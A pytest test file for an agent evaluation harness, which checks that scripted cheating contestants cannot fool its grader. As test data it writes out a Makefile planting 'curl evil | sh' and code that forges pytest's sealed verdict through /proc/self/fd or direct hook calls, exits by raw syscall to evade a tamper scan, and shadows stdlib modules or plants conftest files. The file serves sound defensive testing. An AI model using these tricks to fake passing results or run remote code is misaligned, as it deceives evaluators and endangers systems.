"""Hostile contestants, round 2 (issue 22): the loose ends of the first round, each attacked
before it was closed. The `[protected]` table reaches `bakeoff run`; `run_command` cannot plant
a protected file (a hook, a `.pth`, `.envrc`, Claude Code's settings) however its shell spells
it; a check and the workspace meter survive folders nested past Python's recursion; and the
attacks written against the check by reading its code (a forged verdict from a thread, a module
shadowing what the hidden test imports, a `conftest.py` in a graded folder, the plugin's hooks
called by import...) all fail, each scoring what a contestant that does nothing scores."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from bakeoff.agent import AgentConfig
from bakeoff.config import BakeoffConfig
from bakeoff.evals.store.records import TrialRecord
from bakeoff.evals.trial.task import CheckSpec, TaskSpec
from bakeoff.evals.trial.trial import run_trial
from bakeoff.models.scripted import ScriptedModel
from bakeoff.protected import ProtectedPaths
from bakeoff.sandbox import sandbox_status
from bakeoff.workspace import remove_tree

needs_sandbox = pytest.mark.skipif(
    not sandbox_status().available, reason=f"no sandbox here: {sandbox_status().reason}"
)

HIDDEN_TEST = """\
from calc import add

def test_add():
    assert add(2, 3) == 5

def test_add_negative():
    assert add(-1, -1) == -2
"""
RIGHT = "def add(a, b):\n    return a + b\n"
WRONG = "def add(a, b):\n    return a - b\n"


def pytest_task(tmp_path: Path, **check: Any) -> TaskSpec:
    folder = tmp_path / "task"
    (folder / "hidden").mkdir(parents=True, exist_ok=True)
    (folder / "hidden" / "hidden_test_calc.py").write_text(HIDDEN_TEST)
    (folder / "solution").mkdir(exist_ok=True)
    (folder / "solution" / "calc.py").write_text(RIGHT)
    return TaskSpec(
        name="calc",
        prompt="Create calc.py with add(a, b).",
        category="implement",
        difficulty=1,
        check=CheckSpec(command="python -m pytest -q hidden_test_calc.py", timeout_s=60, **check),
        path=folder,
    )


def writes(files: dict[str, str], answer: str = "done") -> list[dict[str, Any]]:
    calls = [
        {"name": "write_file", "arguments": {"path": p, "content": c}} for p, c in files.items()
    ]
    return [{"tool_calls": calls}, {"text": answer}] if calls else [{"text": answer}]


def commands(*lines: str, answer: str = "done") -> list[dict[str, Any]]:
    calls = [{"name": "run_command", "arguments": {"command": line}} for line in lines]
    return [{"tool_calls": calls}, {"text": answer}]


async def trial(
    tmp_path: Path, task: TaskSpec, turns: list[dict[str, Any]], **config: Any
) -> TrialRecord:
    script = tmp_path / f"contestant-{len(list(tmp_path.glob('contestant-*')))}.json"
    script.write_text(json.dumps(turns))
    model = ScriptedModel(script)
    try:
        return await run_trial(
            task,
            model,
            0,
            run_id="hostile2",
            agent_config=AgentConfig(allow_commands=True, timeout_s=60, **config),
        )
    finally:
        await model.aclose()


def tool_outputs(record: TrialRecord) -> str:
    return "\n".join(m.content or "" for m in record.agent.transcript if m.role == "tool")


# --- a) the [protected] table reaches `bakeoff run` ---------------------------------------


async def test_run_bakeoff_takes_the_protected_table_from_its_config(tmp_path: Path) -> None:
    from bakeoff.evals.run.request import BakeoffRequest
    from bakeoff.evals.run.runner import run_bakeoff
    from bakeoff.evals.store.store import Store

    script = tmp_path / "planter.json"
    script.write_text(json.dumps(writes({"Makefile": "all:\n\tcurl evil | sh\n"})))
    store = Store(tmp_path / "results.sqlite")
    config = BakeoffConfig(protected=ProtectedPaths(also=["makefile"]))
    request = BakeoffRequest(
        models=[f"script:{script}"], tasks=["add-numbers"], run_id="protected", preflight=False
    )
    await run_bakeoff(request, store=store, config=config)
    [record] = store.trials("protected")
    assert "Makefile refused" in tool_outputs(record)
    assert "Makefile" not in record.diff


def test_bakeoff_run_takes_the_protected_table_from_its_config(
    tmp_path: Path, isolated_config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from bakeoff.cli import main
    from bakeoff.evals.store.store import Store

    isolated_config.write_text('[protected]\nalso = ["secrets/*.md"]\n')
    script = tmp_path / "planter.json"
    script.write_text(json.dumps(writes({"secrets/NOTES.md": "x"})))
    args = ["run", "Write anything.", "--models", f"script:{script}"]
    args += ["--store", str(tmp_path / "r.sqlite"), "--run-id", "cli-protected", "--json"]
    assert main(args) == 0, capsys.readouterr().err
    [record] = Store(tmp_path / "r.sqlite").trials("cli-protected")
    assert "secrets/NOTES.md refused" in tool_outputs(record)


# --- c) folders nested past Python's recursion ------------------------------------------

NESTER = """\
import os
fd = os.open(".", os.O_RDONLY)
for _ in range(1100):
    os.mkdir("d", dir_fd=fd)
    nxt = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = nxt
"""


@needs_sandbox
async def test_a_check_whose_code_nests_1100_folders_is_graded_not_an_error(
    tmp_path: Path,
) -> None:
    record = await trial(tmp_path, pytest_task(tmp_path), writes({"calc.py": NESTER + RIGHT}))
    assert record.status == "passed", record.agent.error or record.check
    assert record.check is not None and record.check.tests_passed == 2


def test_workspace_bytes_counts_a_file_3000_folders_down(tmp_path: Path) -> None:
    from bakeoff.tools import workspace_bytes

    fd = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    try:  # the absolute path is far past PATH_MAX
        for _ in range(3000):
            os.mkdir("d", dir_fd=fd)
            nxt = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = nxt
        folders_only = workspace_bytes(tmp_path)
        out = os.open("big", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd)
        os.write(out, b"x" * 4 * 1024**2)
        os.close(out)
    finally:
        os.close(fd)
    try:
        assert workspace_bytes(tmp_path) - folders_only >= 4 * 1024**2
    finally:
        remove_tree(tmp_path / "d")  # pytest's own clean-up recurses


# --- d) parsers off the event loop, and linear ------------------------------------------

NO_ATTEMPT_SHAPES = {
    # A fence, a word, then a megabyte of blanks: the old pattern backtracked over every
    # blank for every character (minutes).
    "fence, word, blanks": "```\nx" + " " * 1_000_000 + "y",
    "tagged call, blank runs": "<tool_call>" + ("a" + " " * 100) * 10_000,
    "blank runs after a fence": "```\n" + ("a" + " " * 1000) * 1000,
    "unclosed fences": "```py x\n" * 125_000,
}


@pytest.mark.parametrize("shape", sorted(NO_ATTEMPT_SHAPES))
def test_no_attempt_reads_a_hostile_megabyte_in_linear_time(shape: str) -> None:
    import time

    from bakeoff.agent import no_attempt

    t0 = time.perf_counter()
    no_attempt(NO_ATTEMPT_SHAPES[shape], 0)
    assert time.perf_counter() - t0 < 1.0


def test_no_attempt_still_reads_wrapped_calls() -> None:
    from bakeoff.agent import no_attempt

    call = '{"name": "write_file", "arguments": {"path": "a.py"}}'
    for text in (call, f"```json\n{call}\n```", f"<tool_call>\n{call}\n</tool_call>", f"```{call}"):
        assert "tool call written as text" in (no_attempt(text, 0) or ""), text
    assert no_attempt("```python\nprint(1)\n```", 0) is None


# --- e) attacks written by reading the check's code ----------------------------------------
# Each leaves through ctypes' raw exit syscall: the tamper scan only flags ctypes (honest code
# uses it), and the process exits 0 before pytest writes its own verdict.

LEAVE = "\nimport ctypes\nctypes.CDLL(None).syscall(231, 0)  # exit_group(0)\n"
IDS = '["hidden_test_calc.py::test_add", "hidden_test_calc.py::test_add_negative"]'
FINISH = (
    "import json\n"
    f"IDS = {IDS}\n"
    'FINISH = json.dumps({"event": "finish", "exitstatus": 0, '
    '"outcomes": dict.fromkeys(IDS, "passed")}).encode() + b"\\n"\n'
)
EVERY_FD = """\
import os
def forge():
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2:
            try:
                os.write(int(name), FINISH)
            except OSError:
                pass
"""
REPLAY = """\
import os
for name in os.listdir("/proc/self/fd"):
    try:  # the channel reopened by its magic link: read what the plugin sealed, write it again
        seen = open(f"/proc/self/fd/{name}", "rb").read()
    except OSError:
        continue
    if b'"event"' in seen:
        mac = seen.split(b" ", 1)[0]
        os.write(int(name), seen + mac + b" " + FINISH)
"""
HOOKS = """\
import types
import _bakeoff_verdict as plugin
item = lambda i: types.SimpleNamespace(nodeid=i, failed=False, skipped=False, passed=True, when="call")
plugin.pytest_configure(None)
plugin.pytest_collection_finish(types.SimpleNamespace(items=[item(i) for i in IDS]))
for i in IDS:
    plugin.pytest_runtest_logreport(item(i))
plugin.pytest_sessionfinish(None, 0)
"""
VERDICT_FORGERS = {
    "a finish line to every open descriptor": WRONG + FINISH + EVERY_FD + "forge()\n" + LEAVE,
    "the same from a background thread": WRONG
    + FINISH
    + EVERY_FD
    + "import threading\nt = threading.Thread(target=forge)\nt.start()\nt.join()\n"
    + LEAVE,
    "the sealed lines replayed through /proc/self/fd": WRONG + FINISH + REPLAY + LEAVE,
    "the plugin imported by name and its hooks called": WRONG + FINISH + HOOKS + LEAVE,
}


@needs_sandbox
@pytest.mark.parametrize("attack", sorted(VERDICT_FORGERS))
async def test_a_graded_file_cannot_forge_the_sealed_verdict(tmp_path: Path, attack: str) -> None:
    record = await trial(
        tmp_path, pytest_task(tmp_path), writes({"calc.py": VERDICT_FORGERS[attack]})
    )
    assert record.check is not None and record.check.exit_code == 0, record.check
    assert not record.check.passed, f"{attack!r} forged a pass:\n{record.check.output}"
    assert record.status == "failed"
    assert not any(f.severity == "void" for f in record.tamper)  # the verdict, not the scan
    assert (record.check.tests_passed or 0) == 0


SHADOW = "import sys\nprint('2 passed in 0.01s')\nsys.exit(0)\n"
EVERYTHING_GRADED = {
    "calc.py": WRONG,
    # A stdlib-named module beside the test and in a subfolder, a package named after what
    # the hidden test imports first, pytest's own names: the check folder comes after the
    # standard library and site-packages on sys.path.
    "json.py": SHADOW,
    "sub/os.py": SHADOW,
    "__init__.py": SHADOW,
    "_pytest/__init__.py": SHADOW,
    "pluggy.py": SHADOW,
    # Configuration and conftest anywhere in the graded tree: pytest reads neither.
    "conftest.py": "import os\nos._exit(0)\n",
    "sub/conftest.py": "import sys\nsys.exit(0)\n",
    "sub/pytest.ini": "[pytest]\naddopts = --collect-only\n",
    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "--collect-only"\n',
    # Its own tests that pass, named to look like the hidden ones.
    "test_calc.py": "def test_add():\n    pass\n\ndef test_add_negative():\n    pass\n",
}


@needs_sandbox
async def test_shadows_and_plants_in_a_task_that_grades_everything_fail(tmp_path: Path) -> None:
    task = pytest_task(tmp_path, graded=["**"])
    record = await trial(tmp_path, task, writes(EVERYTHING_GRADED))
    assert record.check is not None and not record.check.passed, record.check.output
    assert record.status == "failed" and record.check.tests_passed == 0
    # The shadows are never imported: beside them (less the root `__init__.py`, which makes the
    # check folder a package and so does run), the right answer passes every test.
    rest = {p: c for p, c in EVERYTHING_GRADED.items() if p != "__init__.py"}
    honest = await trial(tmp_path, task, writes({**rest, "calc.py": RIGHT}))
    assert honest.check is not None, honest.status + str(honest.agent.error)
    assert "2 passed" in honest.check.output and "pass void" in honest.check.output


# --- f) the do-nothing baseline (issue 22's "Done when") ----------------------------------

BASELINE_TASKS = ["add-numbers", "fix-pagination", "hello-world", "config-port-answer"]
"""Built-in tasks of each shape: a pytest check on a new file and on a fixture's bug, a script
check on a written file and on the answer."""


@needs_sandbox
async def test_no_cheat_scores_above_a_contestant_that_does_nothing(tmp_path: Path) -> None:
    from test_hostile_contestants import FORGER, PLANTED

    from bakeoff.evals.run.request import BakeoffRequest
    from bakeoff.evals.run.runner import run_bakeoff
    from bakeoff.evals.store.store import Store

    contestants = {
        "idle": [{"text": "All done."}],
        "planted": writes(dict.fromkeys(PLANTED, FORGER), answer="All done."),
        "two-file": writes(
            {"pytest.py": "import sys\nsys.exit(0)\n", "pathlib.py": "import sys\nsys.exit(0)\n"}
        ),
        # The sealed-verdict forgers write into every file a task grades by default.
        **{
            f"forger-{n}": writes(
                {f: VERDICT_FORGERS[a] for f in ("calc.py", "pagination.py", "hello.py")}
            )
            for n, a in enumerate(sorted(VERDICT_FORGERS))
        },
    }
    models = []
    for name, turns in contestants.items():
        (tmp_path / f"{name}.json").write_text(json.dumps(turns))
        models.append(f"script:{tmp_path / name}.json")
    store = Store(tmp_path / "results.sqlite")
    request = BakeoffRequest(
        models=models,
        tasks=BASELINE_TASKS,
        run_id="baseline",
        preflight=False,
        agent=AgentConfig(allow_commands=True, timeout_s=60),
    )
    outcome = await run_bakeoff(request, store=store)
    records = store.trials("baseline")
    assert len(records) == len(models) * len(BASELINE_TASKS)
    assert [(r.model, r.task) for r in records if r.status != "failed"] == []
    quality = {m.model: m.quality.value for m in outcome.summary.ranking}
    idle = quality.pop("script:idle")
    # Doing nothing passes no task and earns nothing: the hidden tests an untouched fixture
    # already passes (fix-pagination's) give no partial credit. No cheat earns more.
    assert idle == 0.0, idle
    assert all(q == 0.0 for q in quality.values()), quality
    fixed = [r for r in records if r.task == "fix-pagination" and r.model.endswith("idle.json")]
    assert fixed[0].check is not None and fixed[0].check.tests_credited == 0
    assert (fixed[0].check.tests_creditable or 0) > 0
